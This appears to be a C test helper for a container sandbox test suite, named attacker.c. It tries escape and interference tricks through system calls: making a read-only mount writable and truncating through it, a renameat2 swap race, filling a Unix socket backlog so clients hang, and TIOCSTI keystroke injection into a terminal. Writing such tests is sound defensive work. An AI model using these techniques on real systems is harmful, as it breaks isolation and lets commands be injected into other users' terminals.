/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker.c - what a hostile program inside or beside a container does by system calls that no shell
 * has. It says what it got; whether that is harm, the test decides.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int fail(const char *what)
{
	(void)fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
	return 1;
}

static void say(const char *what, long r)
{
	printf("%s: %s\n", what, r < 0 ? strerror(errno) : "done");
}

/* reopen FD: make the mount below an open file writable, and get at it by a mount of our own. */
static int reopen(const char *number)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	const int fd = atoi(number);
	char path[32];

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	say("mount_setattr",
		syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)));
	say("mount_setattr by path",
		syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attr, sizeof(attr)));
	say("open_tree", syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE));
	say("open", open(path, O_WRONLY | O_CLOEXEC));
	say("truncate", truncate(path, 0));
	return 0;
}

/* swap A B: exchange the two names until we are killed. */
static int swap(const char *a, const char *b)
{
	puts("swapping");
	(void)fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return fail("renameat2");
}

/* full SOCKET: listen there, but so that whoever connects waits for ever. */
static int full(const char *path)
{
	struct sockaddr_un addr = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	(void)snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", path);
	if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(fd, 0) < 0)
		return fail(path);
	for (;;) {
		int filler = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (filler < 0)
			return fail("socket");
		if (connect(filler, (struct sockaddr *)&addr, sizeof(addr)) == 0)
			continue;
		if (errno != EAGAIN)
			return fail("connect");
		break;
	}
	puts("full");
	(void)fflush(stdout);
	for (;;)
		(void)pause();
}

/* type TEXT: put it into the input of the terminal on descriptor 0, as if somebody had typed it. */
static int type(const char *text)
{
	for (; *text; text++)
		if (ioctl(0, TIOCSTI, text) < 0)
			break;
	puts(*text ? strerror(errno) : "typed");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "reopen"))
		return reopen(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "full"))
		return full(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "type"))
		return type(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "user"))
		return printf("%u\n", geteuid()) < 0;
	(void)fprintf(stderr, "attacker: no such word or too few after it\n");
	return 2;
}
